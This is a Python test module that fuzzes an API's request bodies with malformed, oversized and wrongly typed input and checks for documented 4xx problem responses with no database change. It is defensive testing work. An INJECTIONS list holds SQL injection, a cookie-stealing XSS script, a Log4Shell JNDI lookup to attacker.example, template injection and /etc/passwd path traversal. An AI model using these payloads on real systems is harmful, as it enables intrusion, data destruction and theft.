"""The bad input catalogue: every operation that takes a body (read from the OpenAPI document,
so a new endpoint is covered without a change here) gets malformed JSON, wrong types, unknown
and missing fields, huge strings, deep nesting, NUL, invalid UTF-8, absurd numbers, the wrong
content type and an oversized body. Each answer is a documented 4xx as problem details, and
every table (audit_events included) has the same number of rows afterwards."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from typing import Any

import httpx
import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncConnection

from factmark.settings import Settings
from tests.conftest import World
from tests.reliability.conftest import record_figures
from tests.reliability.live import snapshot_tables
from tests.reliability.openapi_ops import Operation, with_body
from tests.reliability.valid_requests import ACTORS, if_match, url_of, valid_body

BODY_OPERATIONS = with_body()

MAX_BODY = 256 * 1024
MAX_TEXT = 10_000


@dataclass
class Case:
    name: str
    content: bytes
    expect: set[int]
    content_type: str = "application/json"
    codes: set[str] = field(default_factory=set)


@pytest.fixture
def settings(settings: Settings) -> Settings:
    """Small limits, so that oversized bodies and texts stay cheap to send."""
    return replace(settings, max_body_bytes=MAX_BODY, max_document_codepoints=MAX_TEXT)


def _types(op: Operation, prop: dict[str, Any]) -> set[str]:
    prop = op.resolve(prop)
    found: set[str] = set()
    for option in prop.get("oneOf", prop.get("anyOf", [prop])):
        option = op.resolve(option)
        kind = option.get("type")
        if isinstance(kind, list):
            found.update(kind)
        elif kind:
            found.add(kind)
        elif "enum" in option:
            found.add("string")
    return found - {"null"}


def _max_length(op: Operation, prop: dict[str, Any]) -> int | None:
    prop = op.resolve(prop)
    for option in prop.get("oneOf", [prop]):
        if "maxLength" in op.resolve(option):
            return int(op.resolve(option)["maxLength"])
    return None


WRONG_VALUE = {"string": 12345, "integer": "12", "number": "twelve", "array": "x", "object": [1]}
ABSURD_NUMBERS = [b"1e308", b"-1e308", b"18446744073709551616", b"1e999", b"NaN", b"Infinity"]
ABSURD_INTEGERS = [b"1.5", b"-1", b"-9223372036854775809"]


def _raw(base: dict[str, Any], name: str, raw: bytes) -> bytes:
    """``base`` with ``name`` set to a raw JSON token (which json.dumps could not write)."""
    others = json.dumps({k: v for k, v in base.items() if k != name})
    member = b'"' + name.encode() + b'": ' + raw
    return b"{" + member + b"}" if others == "{}" else others[:-1].encode() + b", " + member + b"}"


def cases(op: Operation) -> Iterator[Case]:
    schema = op.body_schema or {}
    properties: dict[str, Any] = schema.get("properties", {})
    required = list(schema.get("required", []))
    base = valid_body(op)

    def body(**changes: Any) -> bytes:
        return json.dumps({**base, **changes}).encode()

    for raw in (b"{", b'{"a": ', b"[1, 2", b"{'single': 'quotes'}", b'{"a": 1} trailing', b"nul"):
        yield Case(f"malformed {raw!r}", raw, {400}, codes={"malformed_json"})
    yield Case("top-level array", b"[]", {400, 422})
    yield Case("top-level string", b'"text"', {400, 422})
    yield Case("invalid UTF-8", b'{"' + b"\xff\xfe" + b'": "\xc3\x28"}', {400, 422})
    yield Case("lone surrogate", b'{"x": "\\ud800"}', {422})
    yield Case("unknown field", body(unknownField=1), {422})
    for forbidden in ("id", "version", "createdBy", "workspaceId", "status", "approvedBy"):
        if forbidden not in properties:
            yield Case(f"mass assignment {forbidden}", body(**{forbidden: "x"}), {422})
    yield Case("deeply nested array", b'{"x": ' + b"[" * 5000 + b"]" * 5000 + b"}", {400, 422})
    yield Case("deeply nested object", b'{"a":' * 5000 + b"1" + b"}" * 5000, {400, 422})
    yield Case("oversized body", body(padding="x" * MAX_BODY), {413})
    for media in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        yield Case(f"content type {media}", body(), {415}, content_type=media)
    if required:
        yield Case("empty object", b"{}", {422})
        for name in required:
            without = {k: v for k, v in base.items() if k != name}
            yield Case(f"missing {name}", json.dumps(without).encode(), {422})
    for name, prop in properties.items():
        types = _types(op, prop)
        wrong = next(
            (
                WRONG_VALUE[t]
                for t in ("string", "integer", "number", "array", "object")
                if t in types
            ),
            None,
        )
        if wrong is not None:
            yield Case(f"wrong type {name}", body(**{name: wrong}), {422})
        if name in required:
            yield Case(f"null {name}", body(**{name: None}), {422})
        if "object" in types:
            nested: Any = 1
            for _ in range(200):
                nested = {"k": nested}
            yield Case(f"nested object in {name}", body(**{name: nested}), {422})
        if "string" in types:
            # A password is only compared, never stored: one with NUL is simply wrong.
            nul_expect = {401, 422} if name == "password" else {422}
            yield Case(f"NUL in {name}", body(**{name: "before\u0000after"}), nul_expect)
            limit = _max_length(op, prop)
            huge = "x" * ((limit + 1) if limit is not None else MAX_BODY // 2)
            yield Case(f"huge {name}", body(**{name: huge}), {413, 422})
        if types & {"integer", "number"}:
            absurd = ABSURD_NUMBERS + (ABSURD_INTEGERS if "number" not in types else [])
            for number in absurd:
                yield Case(f"{name}={number.decode()}", _raw(base, name, number), {400, 422})


async def _counts(connection: AsyncConnection) -> dict[str, int]:
    tables = snapshot_tables()
    columns = ", ".join(f"(SELECT count(*) FROM {t})" for t in tables)  # noqa: S608 - tables
    row = (await connection.execute(text(f"SELECT {columns}"))).one()
    return dict(zip(tables, (int(n) for n in row), strict=True))


async def test_bad_bodies_get_documented_problems_and_change_nothing(
    client: httpx.AsyncClient,
    world: World,
    resources: dict[str, str],
    connection: AsyncConnection,
) -> None:
    problems: list[str] = []
    sent = 0
    for op in BODY_OPERATIONS:
        url = url_of(op, resources)
        headers = {} if op.public else dict(world[ACTORS.get(op.operation_id, "admin")].headers)
        if "If-Match" in op.headers:
            headers["If-Match"] = await if_match(client, url, headers)
        before = await _counts(connection)
        for case in cases(op):
            sent += 1
            response = await client.request(
                op.method,
                url,
                content=case.content,
                headers={**headers, "Content-Type": case.content_type},
            )
            problems.extend(_check(op, case, response))
            after = await _counts(connection)
            if after != before:
                changed = {t: (before[t], after[t]) for t in before if before[t] != after[t]}
                problems.append(f"{op.operation_id} / {case.name}: changed rows: {changed}")
                before = after
    record_figures("bad input", operations=len(BODY_OPERATIONS), cases=sent, failures=len(problems))
    assert problems == [], "\n".join(problems)


def _check(op: Operation, case: Case, response: httpx.Response) -> list[str]:
    status = response.status_code
    where = f"{op.operation_id} / {case.name}: {status} {response.text[:200]}"
    if status not in case.expect:
        return [f"{where} (expected {sorted(case.expect)})"]
    if status not in op.responses:
        return [f"{where} (not documented)"]
    if response.headers.get("content-type") != "application/problem+json":
        return [f"{where} (not problem details)"]
    code = response.json().get("code")
    if not code or (case.codes and code not in case.codes):
        return [f"{where} (code {code!r}, expected one of {sorted(case.codes)})"]
    return []


def test_the_catalogue_covers_every_operation_with_a_body() -> None:
    names = {op.operation_id for op in BODY_OPERATIONS}
    assert len(names) >= 20
    for op in BODY_OPERATIONS:
        kinds = {case.name.split(" ")[0] for case in cases(op)}
        assert {"malformed", "unknown", "oversized", "content", "NUL", "wrong"} <= kinds, op


INJECTIONS = [
    "'; DROP TABLE claims; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(5)",
    "<script>alert(document.cookie)</script>",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "../../etc/passwd",
]


@pytest.mark.parametrize("payload", INJECTIONS)
async def test_injection_strings_are_stored_verbatim_and_do_nothing_else(
    client: httpx.AsyncClient,
    world: World,
    resources: dict[str, str],
    connection: AsyncConnection,
    payload: str,
) -> None:
    before = await _counts(connection)
    editor = world["editor"].headers
    document = await client.post(
        "/api/v1/workspaces/acme/documents",
        json={"title": payload, "text": f"Quoted: {payload}", "publisher": payload},
        headers=editor,
    )
    assert document.status_code == 201, document.text
    claim = await client.post(
        f"/api/v1/documents/{document.json()['id']}/claims",
        json={"spans": [{"start": 8, "end": 8 + len(payload)}], "tags": [payload]},
        headers=editor,
    )
    assert claim.status_code == 201, claim.text
    comment = await client.post(
        f"/api/v1/claims/{claim.json()['id']}/comments", json={"body": payload}, headers=editor
    )
    assert comment.status_code == 201, comment.text
    searched = await client.get(
        "/api/v1/workspaces/acme/claims", params={"q": payload, "tag": payload}, headers=editor
    )
    login = await client.post("/api/v1/auth/login", json={"email": payload, "password": payload})

    assert document.json()["title"] == payload
    assert document.json()["publisher"] == payload
    assert claim.json()["statement"] == payload
    assert claim.json()["tags"] == [payload]
    assert comment.json()["body"] == payload
    assert searched.status_code == 200, searched.text
    assert login.status_code in {401, 422}
    after = await _counts(connection)
    changed = {t for t in before if before[t] != after[t]}
    assert changed == {"documents", "claims", "claim_spans", "comments", "audit_events"}
    assert after["documents"] == before["documents"] + 1
    assert after["claims"] == before["claims"] + 1
